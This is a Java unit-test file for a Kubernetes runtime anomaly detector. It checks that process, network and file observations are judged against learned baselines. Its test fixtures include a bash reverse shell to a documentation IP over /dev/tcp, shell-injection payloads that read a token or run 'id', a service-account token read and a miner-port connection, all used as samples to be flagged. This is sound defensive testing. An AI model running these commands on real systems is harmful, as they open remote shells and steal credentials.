package salvor.baseline;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import salvor.evidence.Activity;
import salvor.evidence.Endpoint;
import salvor.evidence.Observation;
import salvor.evidence.Observations;
import salvor.evidence.ObservedTime;
import salvor.evidence.ProcessInfo;
import salvor.evidence.Quality;
import salvor.evidence.RecordRef;
import salvor.jobs.Progress;
import salvor.workload.Container;
import salvor.workload.DeclaredCommand;
import salvor.workload.ImageDigest;
import salvor.workload.Inventory;
import salvor.workload.Location;
import salvor.workload.Pod;
import salvor.workload.WorkloadRef;

class JudgeTest {
  private static final ImageDigest DIGEST = new ImageDigest("sha256:" + "a".repeat(64));
  private static final Location WEB =
      new Location(
          null, "shop", "web-5468d8c4df-8ppl7", null, "web", "0123456789ab", null, DIGEST, null);
  private static final Trait.Exec PING =
      new Trait.Exec(
          "/bin/dash", null, "/usr/bin/python3", "-c {ping -c <number> <ip>}", null, null);
  private static final Trait.Exec DATE = new Trait.Exec("/bin/date", null, null, "", null, null);
  private static final Trait.Network DATABASE =
      new Trait.Network(
          Trait.Network.Direction.OUT, new Peer.Address("198.51.100.10"), 5432, "tcp", "python3");
  private static final Trait.File LOG =
      new Trait.File("/var/log/app.log", Trait.File.Access.WRITE, "python3");

  private int line;

  @Test
  void comparesShellPayloadsByShape() {
    assertThat(reason(shell("ping -c 4 1.1.1.1"))).isEqualTo(Reason.MATCHED);
    assertThat(reason(shell("ping -c 4 1.1.1.1;cat token"))).isEqualTo(Reason.NEW_ARG_SHAPE);
  }

  @Test
  void namesTheNearestElementAndTheDifference() {
    Judgement judgement = judge(profile(FacetState.STABLE), shell("id")).judgement(0);
    assertThat(judgement.element()).contains("ping -c <number> <ip>");
    assertThat(judgement.differences())
        .containsExactly(
            new Judgement.Difference("arguments", "-c {ping -c <number> <ip>}", "-c {id}"));
    assertThat(judgement.support()).isEqualTo("2 of 3");
  }

  @Test
  void whatAForeignProcessDoesIsOutEvenWhenTheWorkloadDoesIt() {
    Observation injected =
        start(100, 50, "/bin/dash", "sh", "sh -c id", "/usr/bin/python3", "python3");
    Observation date = start(101, 100, "/bin/date", "date", "date", "/bin/dash", "sh");
    Verdicts verdicts = judge(profile(FacetState.STABLE), injected, date);
    assertThat(verdicts.judgement(1).reason()).isEqualTo(Reason.FOREIGN_LINEAGE);
    assertThat(verdicts.judgement(1).modifiers())
        .contains(
            Judgement.Modifier.SHELL_ANCESTOR, Judgement.Modifier.SAME_LINEAGE_AS_EARLIER_OUT);
  }

  @Test
  void anotherDigestIsStaleAndNoBaselineIsUnknown() {
    Profile other = profile(FacetState.STABLE, new ImageDigest("sha256:" + "b".repeat(64)), "web");
    assertThat(judge(other, shell("id")).judgement(0).reason()).isEqualTo(Reason.FACET_STALE);
    Profile elsewhere =
        profile(FacetState.STABLE, new ImageDigest("sha256:" + "b".repeat(64)), "pay");
    assertThat(judge(elsewhere, shell("id")).judgement(0).reason()).isEqualTo(Reason.NO_BASELINE);
  }

  @Test
  void aProbeIsExplainedOnlyFromOutsideTheInitTreeAndOnlyWithAllItsArguments() {
    Container container =
        new Container(
            "web",
            "0123456789ab",
            null,
            DIGEST,
            null,
            List.of(
                new DeclaredCommand(
                    DeclaredCommand.Kind.READINESS_PROBE, List.of("test", "-f", "/x"))));
    Pod pod =
        new Pod(
            "shop",
            "web-5468d8c4df-8ppl7",
            null,
            null,
            List.of(),
            null,
            new WorkloadRef("shop", "Deployment", "web"),
            List.of(container));
    Inventory inventory = new Inventory(List.of(pod), List.of(), Map.of());
    Observation probe =
        start(
            7,
            1,
            "/bin/test",
            "test",
            "test -f /x",
            "/usr/bin/containerd-shim-runc-v2",
            "containerd-shim");
    Observation spoof =
        start(8, 50, "/bin/test", "test", "test -f /x", "/usr/bin/python3", "python3");
    Observation longer =
        start(
            9,
            1,
            "/bin/test",
            "test",
            "test -f /x -o /y",
            "/usr/bin/containerd-shim-runc-v2",
            "containerd-shim");
    Verdicts verdicts =
        new Judge(List.of(profile(FacetState.STABLE)), inventory)
            .judge(Observations.of(List.of(probe, spoof, longer)), Progress.NONE);
    assertThat(verdicts.judgement(0).reason()).isEqualTo(Reason.PROBE);
    assertThat(verdicts.judgement(1).verdict()).isEqualTo(Verdict.OUT);
    assertThat(verdicts.judgement(2).verdict()).isEqualTo(Verdict.OUT);
  }

  @Test
  void hardIndicatorsNeedNoBaseline() {
    Observation memory = start(1, 2, "memfd:x", "7", "x", "/pay", "pay");
    Observation socket =
        start(
            3,
            2,
            "/bin/bash",
            "bash",
            "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
            "/a",
            "a");
    Observation token =
        act(
            4,
            "/usr/bin/cat",
            "cat",
            new Activity.FileOpened("/var/run/secrets/kubernetes.io/serviceaccount/token", null));
    Observation miner =
        act(
            5,
            "/tmp/m",
            "m",
            new Activity.ConnectionOpened(
                Endpoint.NONE, new Endpoint("203.0.113.77", 3333, null), "tcp"));
    Verdicts verdicts =
        new Judge(List.of(), Inventory.EMPTY)
            .judge(Observations.of(List.of(memory, socket, token, miner)), Progress.NONE);
    assertThat(List.of(0, 1, 2, 3))
        .extracting(row -> verdicts.judgement(row).reason())
        .containsExactly(
            Reason.EXECUTED_FROM_MEMORY,
            Reason.SHELL_ON_NETWORK,
            Reason.TOKEN_READ_BY_TOOL,
            Reason.MINER_PORT);
  }

  @Test
  void whatABaselineLearnedDuringTheIncidentIsNoLongerNormal() {
    long compromise = 1_000;
    Element before = known(PING, 500L);
    Element during = known(DATE, 2_000L);
    Profile learned =
        new Profile(
            "web",
            new Profile.Key("shop", "Deployment", "web", "web", DIGEST),
            Map.of(Facet.EXEC, FacetState.STABLE),
            List.of(before, during),
            Watched.units(3),
            List.of(new Window(0, 5_000)),
            "salvor");
    Observations observations =
        Observations.of(
            List.of(
                shell("ping -c 1 10.0.0.1"),
                start(101, 50, "/bin/date", "date", "date", null, null),
                shell("id")));
    assertThat(reasons(learned, observations, null))
        .containsExactly(Reason.MATCHED, Reason.MATCHED, Reason.NEW_ARG_SHAPE);
    assertThat(reasons(learned, observations, new Window(compromise, Long.MAX_VALUE)))
        .containsExactly(Reason.MATCHED, Reason.FACET_TAINTED, Reason.FACET_TAINTED);
    assertThat(reasons(learned, observations, new Window(5_000, Long.MAX_VALUE)))
        .as("learned before")
        .containsExactly(Reason.MATCHED, Reason.MATCHED, Reason.NEW_ARG_SHAPE);
  }

  private static Element known(Trait trait, long first) {
    return new Element(
        trait, Watched.ids(3), first, first, Set.of(Phase.START), List.of(), List.of());
  }

  private static List<Reason> reasons(
      Profile profile, Observations observations, @Nullable Window suspected) {
    Verdicts verdicts =
        new Judge(List.of(profile), Inventory.EMPTY, suspected).judge(observations, Progress.NONE);
    return List.of(0, 1, 2).stream().map(row -> verdicts.judgement(row).reason()).toList();
  }

  @Property(tries = 60)
  void onlyAStableFacetYieldsOut(@ForAll FacetState state, @ForAll @IntRange(max = 5) int which) {
    Verdict verdict = judge(profile(state), sample(which)).verdict(0);
    if (state != FacetState.STABLE) {
      assertThat(verdict).isNotEqualTo(Verdict.OUT);
    }
  }

  @Property(tries = 60)
  void forgettingAnElementNeverTurnsOutIntoIn(
      @ForAll @IntRange(max = 3) int forgotten, @ForAll @IntRange(max = 5) int which) {
    Profile whole = profile(FacetState.STABLE);
    List<Element> fewer = new ArrayList<>(whole.elements());
    fewer.remove(forgotten);
    Profile less =
        new Profile(
            whole.name(),
            whole.key(),
            whole.states(),
            fewer,
            Watched.units(3),
            List.of(),
            "salvor");
    if (judge(whole, sample(which)).verdict(0) == Verdict.OUT) {
      assertThat(judge(less, sample(which)).verdict(0)).isNotEqualTo(Verdict.IN);
    }
  }

  @Property(tries = 40)
  void theOrderOfElementsDoesNotMatter(@ForAll @IntRange(max = 5) int which, @ForAll long seed) {
    Profile whole = profile(FacetState.STABLE);
    List<Element> shuffled = new ArrayList<>(whole.elements());
    Collections.shuffle(shuffled, new java.util.Random(seed));
    Profile other =
        new Profile(
            whole.name(),
            whole.key(),
            whole.states(),
            shuffled,
            Watched.units(3),
            List.of(),
            "salvor");
    Observation observation = sample(which);
    assertThat(judge(other, observation).judgement(0).reason())
        .isEqualTo(judge(whole, observation).judgement(0).reason());
  }

  private Observation sample(int which) {
    return switch (which) {
      case 0 -> shell("ping -c 1 10.0.0.1");
      case 1 -> shell("ping -c 1 10.0.0.1;id");
      case 2 ->
          act(
              9,
              "/usr/bin/python3",
              "python3",
              new Activity.ConnectionOpened(
                  Endpoint.NONE, new Endpoint("198.51.100.10", 5432, null), "tcp"));
      case 3 ->
          act(
              9,
              "/usr/bin/python3",
              "python3",
              new Activity.ConnectionOpened(
                  Endpoint.NONE, new Endpoint("198.51.100.99", 80, null), "tcp"));
      case 4 ->
          act(9, "/usr/bin/python3", "python3", new Activity.FileWritten("/var/log/app.log", null));
      default ->
          act(9, "/usr/bin/python3", "python3", new Activity.FileWritten("/etc/cron.d/x", null));
    };
  }

  private Reason reason(Observation observation) {
    return judge(profile(FacetState.STABLE), observation).judgement(0).reason();
  }

  private static Verdicts judge(Profile profile, Observation... observations) {
    return new Judge(List.of(profile), Inventory.EMPTY)
        .judge(Observations.of(Arrays.asList(observations)), Progress.NONE);
  }

  private static Profile profile(FacetState state) {
    return profile(state, DIGEST, "web");
  }

  private static Profile profile(FacetState state, ImageDigest digest, String workload) {
    Map<Facet, FacetState> states = new EnumMap<>(Facet.class);
    for (Facet facet : Facet.values()) {
      states.put(facet, state);
    }
    List<Element> elements = new ArrayList<>();
    for (Trait trait : List.of(PING, DATE, DATABASE, LOG)) {
      elements.add(
          new Element(
              trait, Watched.ids(2), null, null, Set.of(Phase.STEADY), List.of(), List.of()));
    }
    return new Profile(
        "web",
        new Profile.Key("shop", "Deployment", workload, "web", digest),
        states,
        elements,
        Watched.units(3),
        List.of(),
        "salvor");
  }

  private Observation shell(String payload) {
    return start(100, 50, "/bin/dash", "sh", "sh -c " + payload, "/usr/bin/python3", "python3");
  }

  private Observation start(
      int pid,
      int parent,
      String executable,
      String name,
      String command,
      String parentPath,
      String parentName) {
    return observation(
        new ProcessInfo(
            pid,
            pid + 1,
            null,
            executable,
            name,
            command,
            null,
            null,
            new ProcessInfo.Parent(parent, null, parentPath, parentName, null)),
        new Activity.ProcessStarted());
  }

  private Observation act(int pid, String executable, String name, Activity activity) {
    return observation(
        new ProcessInfo(pid, pid, null, executable, name, name, null, null, null), activity);
  }

  private Observation observation(ProcessInfo process, Activity activity) {
    line++;
    return new Observation(
        new ObservedTime(1_800_000_000_000_000_000L + line, "t" + line),
        WEB,
        process,
        activity,
        Set.of(Quality.LOSSY_ARGUMENTS),
        new RecordRef(0, line, line, 1));
  }
}
